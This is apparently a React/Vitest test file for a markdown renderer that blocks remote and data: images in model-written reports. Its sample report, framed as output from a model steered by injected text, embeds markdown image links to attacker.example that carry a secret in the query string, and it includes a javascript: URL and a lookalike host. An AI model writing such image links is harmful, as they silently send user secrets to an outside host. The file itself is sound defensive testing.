// @vitest-environment happy-dom
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { ReportMarkdown, isSameOrigin } from '../src/components/ReportMarkdown.js';
import type { Run } from '../src/types.js';
import { RunView } from '../src/views/RunView.js';
import { fakeServer, renderSignedIn, route } from './harness.js';

afterEach(cleanup);

const ID = 'run_bbbbbbbbbbbbbbbbbbbb';
const EXFIL = 'https://attacker.example/pixel.png?d=ctx-secret-123';

/** A report as a model steered by injected text might write it. */
const REPORT = [
  '# Change audit report',
  '',
  `Done. ![status](${EXFIL})`,
  '',
  '![tracking](//cdn.attacker.example/t.gif) and ![](data:image/png;base64,iVBORw0KGgo=)',
  '',
  '![logo](/assets/logo.png "Countersign")',
  '',
  '| Step | Status |',
  '|---|---|',
  `| s1 | ![ok](http://attacker.example/ok.svg) succeeded |`,
].join('\n');

const run: Run = {
  workflow_id: ID,
  definition: 'ops_change_control',
  status: 'completed',
  stage: 'closed',
  waiting_on: null,
  wake_at: null,
  context: {},
  artifacts: { audit_report: { outcome: 'closed', markdown: REPORT } },
  trace: [],
  error: null,
  created_at: '2026-12-01T10:00:00.000Z',
  updated_at: '2026-12-01T10:05:00.000Z',
};

describe('images in a model-written report', () => {
  it('loads no remote or data: image in the run view, and shows each as text with its URL', async () => {
    renderSignedIn(
      <RunView id={ID} runtime="embedded" config={{ temporal_ui_url: null }} pollMs={0} />,
      fakeServer(route('GET', `/workflows/${ID}/status`, run)),
    );
    await screen.findByRole('heading', { name: 'Change audit report' });
    const report = document.querySelector('.report')!;
    const sources = [...report.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(sources).toEqual(['/assets/logo.png']);
    const blocked = screen.getAllByTestId('blocked-image').map((b) => b.textContent);
    expect(blocked).toEqual([
      `[image not loaded: status — ${EXFIL}]`,
      '[image not loaded: tracking — //cdn.attacker.example/t.gif]',
      // react-markdown's URL filter already empties a data: URL.
      '[image not loaded: no description]',
      '[image not loaded: ok — http://attacker.example/ok.svg]',
    ]);
    // Tables still render around a blocked image.
    expect(report.querySelector('table td img')).toBeNull();
    expect(report.querySelector('table')?.textContent).toContain('succeeded');
  });

  it('keeps a same-origin image with its alt text and title', () => {
    render(<ReportMarkdown>{'![Countersign logo](./logo.png "Logo")'}</ReportMarkdown>);
    const img = screen.getByRole('img', { name: 'Countersign logo' });
    expect(img.getAttribute('src')).toBe('./logo.png');
    expect(img.getAttribute('title')).toBe('Logo');
  });

  it('judges origins by scheme, host and port', () => {
    const base = 'http://127.0.0.1:8080/#/runs/run_1';
    expect(isSameOrigin('/assets/a.png', base)).toBe(true);
    expect(isSameOrigin('a.png', base)).toBe(true);
    expect(isSameOrigin('http://127.0.0.1:8080/a.png', base)).toBe(true);
    expect(isSameOrigin('http://127.0.0.1:9090/a.png', base)).toBe(false);
    expect(isSameOrigin('https://127.0.0.1:8080/a.png', base)).toBe(false);
    expect(isSameOrigin('//127.0.0.1.attacker.example/a.png', base)).toBe(false);
    expect(isSameOrigin('data:image/gif;base64,R0lGOD', base)).toBe(false);
    expect(isSameOrigin('blob:http://127.0.0.1:8080/uuid', base)).toBe(false);
    expect(isSameOrigin('javascript:alert(1)', base)).toBe(false);
    expect(isSameOrigin('http://[::1', base)).toBe(false);
  });
});
